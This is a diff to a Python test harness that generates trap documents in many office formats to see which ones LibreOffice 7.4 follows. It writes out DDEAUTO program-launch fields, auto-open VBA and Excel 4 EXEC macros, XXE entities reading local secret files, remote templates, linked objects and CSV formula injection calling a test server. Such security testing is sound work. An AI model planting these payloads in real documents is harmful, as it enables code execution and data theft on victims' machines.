@@ -6,11 +6,16 @@ unlocked LibreOffice 7.4 does with it, seen by trial; empty: nothing, `why` says
 is table.py.
 """
 import dataclasses
+import struct
 from pathlib import Path
 from typing import Callable
 
-import package
-from package import Ooxml, escaped, odf
+import biff
+import cfb
+import ooxml
+import vba
+from ooxml import book, book_bytes, book_sheet, show, show_bytes, show_slide, slide_name, text_box, text_cell, word, word_bytes
+from package import RELATIONSHIPS, XML, escaped, odf
 
 FETCH, WRITE, RUN, READ = "fetch", "write", "run", "read"
 VISIBLE = "罠の文書"
@@ -18,6 +23,10 @@ FAMILY = {"odt": "writer", "ott": "writer", "fodt": "writer", "docx": "writer", 
           "doc": "writer", "rtf": "writer",
           "ods": "calc", "fods": "calc", "xlsx": "calc", "xlsm": "calc", "xls": "calc", "csv": "calc",
           "odp": "impress", "fodp": "impress", "pptx": "impress", "pptm": "impress", "ppt": "impress", "odg": "draw"}
+
+
+EXPORT = {"doc": "MS Word 97", "rtf": "Rich Text Format", "xls": "MS Excel 97", "ppt": "MS PowerPoint 97",
+          "docx": "MS Word 2007 XML", "xlsx": "Calc MS Excel 2007 XML", "pptx": "Impress MS PowerPoint 2007 XML"}
 
 
 @dataclasses.dataclass
@@ -47,6 +56,13 @@ class Trap:
     make: Callable  # Site -> bytes
     springs: frozenset
     why: str = ""
+    original: Callable = None  # (Site, name, format) -> bytes, for the same trap in another dress
+    source: str = ""  # the format that make writes, where LibreOffice converts it into the trap's own
+    finish: Callable = None  # (Site, name) -> bytes -> bytes, after that
+
+    @property
+    def filter(self):
+        return EXPORT[self.format]
 
     @property
     def file(self):
@@ -67,7 +83,7 @@ def trap(kind, formats, springs="", why=""):
             words = springs.get(form, springs.get("", "")) if isinstance(springs, dict) else springs
             name = f"{form}-{kind}"
             TRAPS.append(Trap(name, form, kind, lambda site, n=name, f=form: make(site, n, f), frozenset(words.split()),
-                              why if not words else ""))
+                              why if not words else "", original=make))
         return make
     return register
 
@@ -75,6 +91,7 @@ def trap(kind, formats, springs="", why=""):
 # ---- OpenDocument --------------------------------------------------------------------------------------
 
 TEXTS, SHEETS, SLIDES, DRAWINGS = "odt fodt", "ods fods", "odp fodp", "odg"
+ODF = ("odt", "fodt", "ods", "fods", "odp", "fodp", "odg")
 ALL_ODF = f"{TEXTS} {SHEETS} {SLIDES} {DRAWINGS}"
 PAGE_STYLE = ('<style:page-layout style:name="pm"><style:page-layout-properties fo:page-width="210mm" fo:page-height="297mm"'
               ' fo:margin-top="20mm" fo:margin-bottom="20mm" fo:margin-left="20mm" fo:margin-right="20mm"/></style:page-layout>'
@@ -123,7 +140,8 @@ trap("basic-load", ALL_ODF, ALL_THREE)(basic_trap("dom:load"))
 trap("basic-load-finished", ALL_ODF, why="7.4 runs no macro for this event, neither by LibreOfficeKit nor in a hidden view")(
     basic_trap("office:load-finished"))
 trap("basic-view", ALL_ODF, ALL_THREE)(basic_trap("office:view-created"))
-trap("basic-unload", ALL_ODF, ALL_THREE)(basic_trap("dom:unload"))
+trap("basic-unload", ALL_ODF, {"fodt": ALL_THREE, "fods": ALL_THREE},
+     "7.4.7 ends itself (exit 1) where a package's macro is to run while it is closed")(basic_trap("dom:unload"))
 trap("basic-saveto", ALL_ODF, ALL_THREE)(basic_trap("office:copy-to"))
 
 
@@ -270,7 +288,7 @@ def _(site, name, form):
                basic=evil_basic(site, name))
 
 
-@trap("font-link", ALL_ODF, {"odt": ""}, "7.4 takes fonts from the package alone")
+@trap("font-link", ALL_ODF, why="7.4 takes fonts from the package alone")
 def _(site, name, form):
     face = (f'<style:font-face style:name="Trap" svg:font-family="Trap"><svg:font-face-src><svg:font-face-uri'
             f' xlink:href="{site.url(name)}.ttf" xlink:type="simple"><svg:font-face-format svg:string="truetype"/>'
@@ -368,6 +386,472 @@ def _(site, name, form):
 def _(site, name, form):
     return odf(form, f'<text:p>{VISIBLE}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
                      f' href="{site.secret(name)}.txt"/></text:p>')
+
+
+# ---- binary formats, written by LibreOffice from the above -----------------------------------------------
+
+def converted(source, targets, kinds):
+    """kinds: words, each the kind of a trap of source, with /effects where the target springs another."""
+    for target in targets.split():
+        for word_of in kinds.split():
+            kind, _, effects = word_of.partition("/")
+            original = next(t for t in TRAPS if t.name == f"{source}-{kind}")
+            name = f"{target}-{kind}"
+            springs = original.springs if not effects else frozenset(effects.replace("none", "").split("+")) - {""}
+            TRAPS.append(Trap(name, target, kind, lambda site, n=name, k=original: k.original(site, n, source), springs,
+                              "" if springs else f"{target} has no place for it, or 7.4 does not follow it from there", source=source))
+
+
+converted("odt", "doc", "linked-image local-image background-image bullet-image linked-object section-link section-local"
+                        " dde-section dde-field form-data-source form-submit database-field iframe media macro-link")
+converted("ods", "xls", "linked-image local-image linked-object webservice filterxml dde-formula external-reference external-local"
+                        " linked-sheet linked-area form-data-source hyperlink-formula iframe")
+converted("odp", "ppt", "linked-image local-image background-image linked-object media slide-sound iframe")
+converted("odt", "rtf", "linked-image local-image section-link section-local dde-section dde-field")
+converted("ods", "xlsx", "dde-formula linked-sheet")
+
+
+# ---- docx, xlsx, pptx ----------------------------------------------------------------------------------
+
+WORDS, BOOKS, SHOWS = "docx", "xlsx", "pptx"
+DRAWN = ('<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
+         '<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}/><a:stretch><a:fillRect/></a:stretch>'
+         '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect">'
+         "<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>")
+PICTURE = ('<w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1200000"/><wp:docPr id="1" name="p"/>' + DRAWN +
+           "</wp:inline></w:drawing></w:r>")
+SLIDE_PICTURE = ('<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr>{}</p:nvPr></p:nvPicPr><p:blipFill>'
+                 '<a:blip {}/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="900000" y="2500000"/>'
+                 '<a:ext cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
+SHEET_SPACE = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
+SHEET_PICTURE = (f'{XML}<xdr:wsDr xmlns:xdr="{SHEET_SPACE}" {ooxml.SPACES}><xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col>'
+                 '<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="1800000"'
+                 ' cy="1200000"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
+                 '<a:blip {}/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext'
+                 ' cx="1800000" cy="1200000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>'
+                 "<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>")
+
+
+def paragraph(runs=""):
+    return f"<w:p><w:r><w:t>{VISIBLE}</w:t></w:r>{runs}</w:p>"
+
+
+def field(instruction):
+    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ' + escaped(instruction) +
+            ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+
+def field_document(form, instruction):
+    if form == "rtf":
+        return rtf(r"{\field{\*\fldinst { " + rtf_text(instruction) + r" }}{\fldrslt {old}}}")
+    return word_bytes(word(form), paragraph(field(instruction)))
+
+
+def rtf_text(text):
+    text = text.replace("\\", "\\\\").replace("{", r"\{").replace("}", r"\}")
+    return "".join(c if ord(c) < 128 else rf"\u{ord(c) if ord(c) < 32768 else ord(c) - 65536}?" for c in text)
+
+
+def struct_moniker(path):
+    """OLE 1.0 linked object: class, topic, item ([MS-OLEDS] 2.2.6)."""
+    name = b"Excel.Sheet.12\0"
+    return (struct.pack("<III", 0x501, 1, len(name)) + name + struct.pack("<I", len(path)) + path + struct.pack("<I", 5) + b"A1:A1"[:4] + b"\0" +
+            struct.pack("<III", 0, 0, 0) + struct.pack("<II", 0x501, 0))
+
+
+def rtf(inner, head=""):
+    return (r"{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}" + head + r"\pard " + rtf_text(VISIBLE) + inner + r"\par}").encode()
+
+
+def one_sheet(pack, cells="", after="", before="", tail=""):
+    """A workbook of one sheet that says VISIBLE in A1; cells: more of the first row; after: behind the sheet's data."""
+    rid = book_sheet(pack, 1, f'<sheetData><row r="1">{text_cell("A1", VISIBLE)}{cells}</row></sheetData>{after}')
+    return book_bytes(pack, [("表", rid, "")], before=before, after=tail)
+
+
+def one_slide(pack, shapes="", after=""):
+    return show_bytes(pack, [show_slide(pack, 1, text_box(2, [VISIBLE]) + shapes, after=after)])
+
+
+def with_picture(form, target):
+    if form in WORDS.split():
+        pack = word(form)
+        return word_bytes(pack, paragraph(PICTURE.format(f'r:link="{pack.relate(ooxml.DOCUMENT, "image", target, "External")}"')))
+    if form in SHOWS.split():
+        pack = show(form)
+        return one_slide(pack, SLIDE_PICTURE.format("", f'r:link="{pack.relate(slide_name(1), "image", target, "External")}"'))
+    pack = book(form)
+    rid = pack.relate("xl/drawings/drawing1.xml", "image", target, "External")
+    pack.add("xl/drawings/drawing1.xml", SHEET_PICTURE.format(f'r:link="{rid}"'), ooxml.OFFICE + "drawing+xml")
+    rid = pack.relate("xl/worksheets/sheet1.xml", "drawing", "../drawings/drawing1.xml")
+    return one_sheet(pack, after=f'<drawing r:id="{rid}"/>')
+
+
+@trap("linked-image", "docx xlsx pptx", "fetch")
+def _(site, name, form):
+    return with_picture(form, f"{site.url(name)}.png")
+
+
+@trap("local-image", "docx xlsx pptx", "read")
+def _(site, name, form):
+    return with_picture(form, f"{site.secret(name)}.png")
+
+
+@trap("vml-image", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    rid = pack.relate(ooxml.DOCUMENT, "image", f"{site.url(name)}.png", "External")
+    return word_bytes(pack, paragraph('<w:r><w:pict><v:shape id="s1" type="#_x0000_t75" style="width:100pt;height:60pt">'
+                                      f'<v:imagedata r:id="{rid}" o:href="{site.url(name)}.png"/></v:shape></w:pict></w:r>'))
+
+
+@trap("header-image", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    part = "word/header1.xml"
+    rid = pack.relate(part, "image", f"{site.url(name)}.png", "External")
+    picture = PICTURE.format(f'r:link="{rid}"')
+    rid = ooxml.word_part(pack, "header1.xml", "hdr", f"<w:p>{picture}</w:p>", "header")
+    return word_bytes(pack, paragraph(), f'<w:headerReference w:type="default" r:id="{rid}"/>')
+
+
+@trap("template", "docx docm", "fetch")
+def _(site, name, form):
+    pack = word(form)
+    settings = "word/settings.xml"
+    rid = pack.relate(settings, "attachedTemplate", f"{site.url(name)}.dotm", "External")
+    ooxml.word_part(pack, "settings.xml", "settings", f'<w:attachedTemplate r:id="{rid}"/><w:linkStyles/>', "settings")
+    return word_bytes(pack, paragraph())
+
+
+@trap("mail-merge", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    rid = pack.relate("word/settings.xml", "mailMergeSource", f"{site.url(name)}.csv", "External")
+    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/>'
+             f'<w:connectString w:val=""/><w:query w:val="SELECT * FROM {site.url(name)}.csv"/><w:dataSource r:id="{rid}"/>'
+             "<w:viewMergedData/><w:odso><w:udl w:val=\"x\"/></w:odso></w:mailMerge>")
+    ooxml.word_part(pack, "settings.xml", "settings", merge, "settings")
+    return word_bytes(pack, paragraph(field("MERGEFIELD a")))
+
+
+@trap("include-picture", "docx rtf", "fetch")
+def _(site, name, form):
+    return field_document(form, f'INCLUDEPICTURE "{site.url(name)}.png" \\d')
+
+
+@trap("include-text", "docx rtf", "fetch")
+def _(site, name, form):
+    return field_document(form, f'INCLUDETEXT "{site.url(name)}.odt"')
+
+
+@trap("include-local", "docx rtf", "read")
+def _(site, name, form):
+    return field_document(form, f'INCLUDETEXT "{site.secret(name)}.txt"')
+
+
+@trap("dde-field", "docx rtf", "fetch")
+def _(site, name, form):
+    return field_document(form, f'DDEAUTO soffice "{site.url(name)}.odt" bm')
+
+
+@trap("dde-program", "docx rtf", "run")
+def _(site, name, form):
+    return field_document(form, f'DDEAUTO {site.mark()} "{name}"')
+
+
+@trap("link-field", "docx rtf", "fetch")
+def _(site, name, form):
+    return field_document(form, f'LINK Excel.Sheet.12 "{site.url(name)}.ods" "Sheet1!R1C1" \\a \\t')
+
+
+@trap("html-chunk", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    pack.add("word/chunk.html", f'<html><body><p>x<img src="{site.url(name)}.png"></p></body></html>', "text/html")
+    rid = pack.relate(ooxml.DOCUMENT, "aFChunk", "chunk.html")
+    return word_bytes(pack, f'{paragraph()}<w:altChunk r:id="{rid}"/>{paragraph()}')
+
+
+@trap("remote-chunk", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    rid = pack.relate(ooxml.DOCUMENT, "aFChunk", f"{site.url(name)}.docx", "External")
+    return word_bytes(pack, f'{paragraph()}<w:altChunk r:id="{rid}"/>{paragraph()}')
+
+
+@trap("sub-document", WORDS, "fetch")
+def _(site, name, form):
+    pack = word(form)
+    rid = pack.relate(ooxml.DOCUMENT, "subDocument", f"{site.url(name)}.docx", "External")
+    return word_bytes(pack, f'{paragraph()}<w:subDoc r:id="{rid}"/>')
+
+
+@trap("linked-object", "docx xlsx pptx", "fetch")
+def _(site, name, form):
+    target, mode = f"{site.url(name)}.ods", ("External",)
+    picture = {"docx": ooxml.DOCUMENT, "xlsx": "", "pptx": slide_name(1)}[form]
+    if form == "docx":
+        pack = word(form)
+        pack.add("word/media/i.png", PNG)
+        image = pack.relate(picture, "image", "media/i.png")
+        rid = pack.relate(picture, "oleObject", target, *mode)
+        return word_bytes(pack, paragraph('<w:r><w:object><v:shape id="s1" style="width:100pt;height:60pt" o:ole="">'
+                                          f'<v:imagedata r:id="{image}"/></v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"'
+                                          f' ShapeID="s1" DrawAspect="Content" r:id="{rid}" UpdateMode="Always">'
+                                          "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>"))
+    if form == "pptx":
+        pack = show(form)
+        pack.add("ppt/media/i.png", PNG)
+        image = pack.relate(picture, "image", "../media/i.png")
+        rid = pack.relate(picture, "oleObject", target, *mode)
+        return one_slide(pack, '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="o"/><p:cNvGraphicFramePr/><p:nvPr/>'
+                               '</p:nvGraphicFramePr><p:xfrm><a:off x="900000" y="2500000"/><a:ext cx="1800000" cy="1200000"/>'
+                               '</p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
+                               f'<p:oleObj name="o" r:id="{rid}" imgW="1800000" imgH="1200000" progId="Excel.Sheet.12">'
+                               f'<p:link updateAutomatic="1"/>{SLIDE_PICTURE.format("", f"r:embed={chr(34)}{image}{chr(34)}")}</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>')
+    pack = book(form)
+    sheet = "xl/worksheets/sheet1.xml"
+    link = "xl/externalLinks/externalLink1.xml"
+    rid = pack.relate(link, "oleObject", target, *mode)
+    pack.add(link, f'{XML}<externalLink {ooxml.SHEET}><oleLink r:id="{rid}" progId="Excel.Sheet.12"><oleItems><oleItem'
+                   " name=\"'\" advise=\"1\" preferPic=\"1\"/></oleItems></oleLink></externalLink>",
+             ooxml.OFFICE + "spreadsheetml.externalLink+xml")
+    rid = pack.relate(ooxml.WORKBOOK, "externalLink", "externalLinks/externalLink1.xml")
+    pack.add("xl/drawings/vml1.vml", f'<xml xmlns:x="urn:schemas-microsoft-com:office:excel" {ooxml.SPACES}><v:shape id="_x0000_s1025"'
+                                     ' style="position:absolute;width:100pt;height:60pt"><x:ClientData ObjectType="Pict"><x:Anchor>'
+                                     "1, 0, 1, 0, 3, 0, 5, 0</x:Anchor></x:ClientData></v:shape></xml>",
+             ooxml.OFFICE + "vmlDrawing")
+    drawing = pack.relate(sheet, "vmlDrawing", "../drawings/vml1.vml")
+    return one_sheet(pack, after=f'<legacyDrawing r:id="{drawing}"/><oleObjects><oleObject progId="Excel.Sheet.12" link="[1]!\'\'"'
+                                 ' oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>',
+                     tail=f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>')
+
+
+@trap("media", SHOWS, why="a film is fetched when it is played; Debian's -nogui packages have no player")
+def _(site, name, form):
+    pack = show(form)
+    pack.add("ppt/media/i.png", PNG)
+    image = pack.relate(slide_name(1), "image", "../media/i.png")
+    video = pack.relate(slide_name(1), "video", f"{site.url(name)}.mp4", "External")
+    return one_slide(pack, SLIDE_PICTURE.format(f'<a:videoFile r:link="{video}"/>', f'r:embed="{image}"'))
+
+
+@trap("slide-sound", SHOWS, why="a sound is fetched when the slide show comes to it")
+def _(site, name, form):
+    pack = show(form)
+    sound = pack.relate(slide_name(1), "audio", f"{site.url(name)}.wav", "External")
+    return one_slide(pack, after=f'<p:transition><p:sndAc><p:stSnd><p:snd r:embed="{sound}" name="s"/></p:stSnd></p:sndAc></p:transition>')
+
+
+@trap("linked-master", SHOWS, "fetch")
+def _(site, name, form):
+    pack = show(form)
+    pack.relate("ppt/slideMasters/slideMaster1.xml", "image", f"{site.url(name)}.png", "External")
+    master = pack.parts["ppt/slideMasters/slideMaster1.xml"]
+    fill = '<p:bg><p:bgPr><a:blipFill><a:blip r:link="rId3"/><a:stretch/></a:blipFill><a:effectLst/></p:bgPr></p:bg>'
+    pack.parts["ppt/slideMasters/slideMaster1.xml"] = master.replace("<p:cSld>", f"<p:cSld>{fill}", 1)
+    return one_slide(pack)
+
+
+SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="60">'
+       '<style>@import url({0}.css);</style><image xlink:href="{0}.png" width="50" height="50"/>'
+       '<image xlink:href="{1}.png" width="50" height="50"/><rect width="9" height="9"/></svg>')
+
+
+@trap("svg-inside", "odt ods odp odg docx pptx", "fetch read")
+def _(site, name, form):
+    svg = SVG.format(site.url(name), site.secret(name))
+    if form in ODF:
+        return shown(form, frame('<draw:image xlink:href="Pictures/i.svg" xlink:type="simple" draw:mime-type="image/svg+xml"/>'),
+                     parts={"Pictures/i.svg": svg})
+    extension = ('r:embed="{}"><a:extLst><a:ext uri="{{96DAC541-7B7A-43D3-8B79-37D633B846F1}}"><asvg:svgBlip xmlns:asvg='
+                 '"http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="{}"/></a:ext></a:extLst></a:blip')
+    source, make, folder = (ooxml.DOCUMENT, word, "word") if form == "docx" else (slide_name(1), show, "ppt")
+    pack = make(form)
+    pack.add(f"{folder}/media/i.svg", svg)
+    rid = pack.relate(source, "image", ("" if form == "docx" else "../") + "media/i.svg")
+    if form == "docx":
+        return word_bytes(pack, paragraph(PICTURE.format(f'r:embed="{rid}"')))
+    return one_slide(pack, SLIDE_PICTURE.format("", f'r:embed="{rid}"'))
+
+
+def formula_book(form, formula):
+    return one_sheet(book(form), f'<c r="B1" t="str"><f>{escaped(formula)}</f><v>old</v></c>')
+
+
+@trap("webservice", BOOKS, "fetch")
+def _(site, name, form):
+    return formula_book(form, f'_xlfn.WEBSERVICE("{site.url(name)}.xml")')
+
+
+@trap("filterxml", BOOKS, "fetch")
+def _(site, name, form):
+    return formula_book(form, f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{site.url(name)}.xml"),"//a")')
+
+
+def external_book(form, inside, kind, target, formula, relation="externalLinkPath"):
+    pack = book(form)
+    link = "xl/externalLinks/externalLink1.xml"
+    rid = pack.relate(link, relation, target, "External") if target else ""
+    pack.add(link, f"{XML}<externalLink {ooxml.SHEET}>{inside.format(rid)}</externalLink>", ooxml.OFFICE + "spreadsheetml.externalLink+xml")
+    rid = pack.relate(ooxml.WORKBOOK, "externalLink", "externalLinks/externalLink1.xml")
+    return one_sheet(pack, f'<c r="B1" t="str"><f>{escaped(formula)}</f><v>old</v></c>',
+                     tail=f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>')
+
+
+EXTERNAL_BOOK = '<externalBook r:id="{}"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
+
+
+@trap("external-reference", BOOKS, "fetch")
+def _(site, name, form):
+    return external_book(form, EXTERNAL_BOOK, "", f"{site.url(name)}.ods", "[1]Sheet1!A1")
+
+
+@trap("external-local", BOOKS, "read")
+def _(site, name, form):
+    return external_book(form, EXTERNAL_BOOK, "", f"{site.secret(name)}.ods", "[1]Sheet1!A1")
+
+
+@trap("dde-link", BOOKS, "fetch")
+def _(site, name, form):
+    inside = (f'<ddeLink ddeService="soffice" ddeTopic="{site.url(name)}.ods"><ddeItems><ddeItem name="a1" advise="1"><values>'
+              '<value t="str"><val>old</val></value></values></ddeItem></ddeItems></ddeLink>')
+    return external_book(form, inside, "", "", "[1]!a1")
+
+
+@trap("dde-program", BOOKS, "run")
+def _(site, name, form):
+    inside = (f'<ddeLink ddeService="{site.mark()}" ddeTopic="{name}"><ddeItems><ddeItem name="a1" advise="1"/></ddeItems></ddeLink>')
+    return external_book(form, inside, "", "", "[1]!a1")
+
+
+@trap("web-query", BOOKS, "fetch")
+def _(site, name, form):
+    pack = book(form)
+    pack.add("xl/connections.xml", f'{XML}<connections {ooxml.SHEET}><connection id="1" name="c" type="4" refreshedVersion="3" background="1"'
+                                   f' refreshOnLoad="1" saveData="1"><webPr sourceData="1" parsePre="1" consecutive="1" url="{site.url(name)}.html"'
+                                   ' htmlTables="1"/></connection></connections>', ooxml.OFFICE + "spreadsheetml.connections+xml")
+    pack.relate(ooxml.WORKBOOK, "connections", "connections.xml")
+    pack.add("xl/queryTables/q1.xml", f'{XML}<queryTable {ooxml.SHEET} name="c" refreshOnLoad="1" connectionId="1"/>',
+             ooxml.OFFICE + "spreadsheetml.queryTable+xml")
+    pack.relate("xl/worksheets/sheet1.xml", "queryTable", "../queryTables/q1.xml")
+    return one_sheet(pack, tail='<definedNames><definedName name="c" localSheetId="0">表!$A$1:$B$2</definedName></definedNames>')
+
+
+def part_of(form):
+    return {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[form]
+
+
+@trap("entity-local", "docx xlsx pptx", why="the reader of XML resolves no external entities")
+def _(site, name, form):
+    pack = {"docx": word, "xlsx": book, "pptx": show}[form](form)
+    {"docx": lambda: word_bytes(pack, "<w:p><w:r><w:t>&s;</w:t></w:r></w:p>"), "xlsx": lambda: one_sheet(pack),
+     "pptx": lambda: one_slide(pack)}[form]()
+    inside = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": slide_name(1)}[form]
+    prolog = f'{XML}<!DOCTYPE x [<!ENTITY s SYSTEM "{site.secret(name)}.txt">]>'
+    pack.parts[inside] = pack.parts[inside].replace(XML, prolog, 1).replace(VISIBLE, "&s;")
+    return pack.bytes()
+
+
+# ---- VBA and the macros of Excel 4 ---------------------------------------------------------------------
+
+def evil_vba(site, name, *subs):
+    return "".join(evil_basic(site, name, sub) for sub in subs)
+
+
+def word_modules(site, name):
+    return {"ThisDocument": (evil_vba(site, name, "Document_Open"), True), "Module1": (evil_vba(site, name, "AutoOpen"), False)}
+
+
+def book_modules(site, name):
+    return {"ThisWorkbook": (evil_vba(site, name, "Workbook_Open"), True), "Sheet1": ("", True),
+            "Module1": (evil_vba(site, name, "Auto_Open"), False)}
+
+
+@trap("vba-open", "docm dotm xlsm pptm", {"docm": ALL_THREE, "dotm": ALL_THREE, "xlsm": ALL_THREE},
+      "a presentation has no macro that runs when it is opened")
+def _(site, name, form):
+    make, main, modules = {"d": (word, ooxml.DOCUMENT, word_modules), "x": (book, ooxml.WORKBOOK, book_modules),
+                           "p": (show, ooxml.PRESENTATION, book_modules)}[form[0]]
+    pack = make(form)
+    pack.add(f"{main.partition('/')[0]}/vbaProject.bin", vba.project_bin(modules(site, name)), ooxml.VBA_TYPE)
+    pack.relate(main, ooxml.VBA_RELATION, "vbaProject.bin")
+    if form[0] == "d":
+        return word_bytes(pack, paragraph())
+    if form[0] == "p":
+        return one_slide(pack)
+    rid = book_sheet(pack, 1, f'<sheetPr codeName="Sheet1"/><sheetData><row r="1">{text_cell("A1", VISIBLE)}</row></sheetData>')
+    return book_bytes(pack, [("表", rid, "")], before='<workbookPr codeName="ThisWorkbook"/>')
+
+
+@trap("vba-open", "xls", ALL_THREE)
+def _(site, name, form):
+    return biff.workbook([("表", biff.label(0, 0, VISIBLE), biff.NORMAL, "Sheet1")], modules=book_modules(site, name))
+
+
+@trap("vba-open", "doc", ALL_THREE)
+def _(site, name, form):
+    return odf("odt", f"<text:p>{VISIBLE}</text:p>")
+
+
+def with_macros(site, name):
+    def finish(data):
+        files = cfb.read(data)
+        files["Macros"] = vba.project(word_modules(site, name))
+        return cfb.write(files)
+    return finish
+
+
+TRAPS[-1].source, TRAPS[-1].finish = "odt", with_macros
+
+
+@trap("xlm-open", "xls", "run")
+def _(site, name, form):
+    cells = biff.command(0, 0, f"{site.mark()} {name}") + biff.halt(1, 0)
+    return biff.workbook([("表", biff.label(0, 0, VISIBLE), biff.NORMAL, ""), ("Macro1", cells, biff.MACRO_SHEET, "")], auto_open=1)
+
+
+@trap("xlm-open", "xlsm", "run")
+def _(site, name, form):
+    pack = book(form)
+    rid = book_sheet(pack, 1, f'<sheetData><row r="1">{text_cell("A1", VISIBLE)}</row></sheetData>')
+    space = "http://schemas.microsoft.com/office/excel/2006/main"
+    pack.add("xl/macrosheets/sheet1.xml", f'{XML}<xm:macrosheet xmlns:xm="{space}" {ooxml.SHEET}><sheetData><row r="1"><c r="A1"><f>'
+                                          f'EXEC("{site.mark()} {name}")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
+                                          "</xm:macrosheet>", "application/vnd.ms-excel.macrosheet+xml")
+    macro = pack.relate(ooxml.WORKBOOK, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")
+    return book_bytes(pack, [("表", rid, ""), ("Macro1", macro, "")],
+                      after='<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>')
+
+
+# ---- RTF -----------------------------------------------------------------------------------------------
+
+@trap("template", "rtf", "fetch")
+def _(site, name, form):
+    return rtf("", r"{\*\template " + site.url(name) + ".dotm}")
+
+
+@trap("linked-object", "rtf", "fetch")
+def _(site, name, form):
+    path = f"{site.url(name)}.ods\0".encode()
+    moniker = struct_moniker(path)
+    return rtf(r"{\object\objautlink\objupdate\objw2000\objh1000{\*\objclass Excel.Sheet.12}{\*\objdata " + moniker.hex() +
+               r"}{\result old}}")
+
+
+@trap("data-source", "rtf", "fetch")
+def _(site, name, form):
+    return rtf("", r"{\*\mailmerge\mmlinktoquery\mmdatatypeodso{\mmdatasource " + site.url(name) + ".csv}}")
+
+
+# ---- csv -----------------------------------------------------------------------------------------------
+
+@trap("formulas", "csv", "fetch")
+def _(site, name, form):
+    return (f'{VISIBLE},"=WEBSERVICE(""{site.url(name)}.xml"")","=DDE(""soffice"";""{site.url(name)}.ods"";""a1"")",'
+            f"\"='{site.url(name)}.ods'#$Sheet1.A1\"\n").encode()
 
 
 # ---- what the server and the secret files hold ----------------------------------------------------------
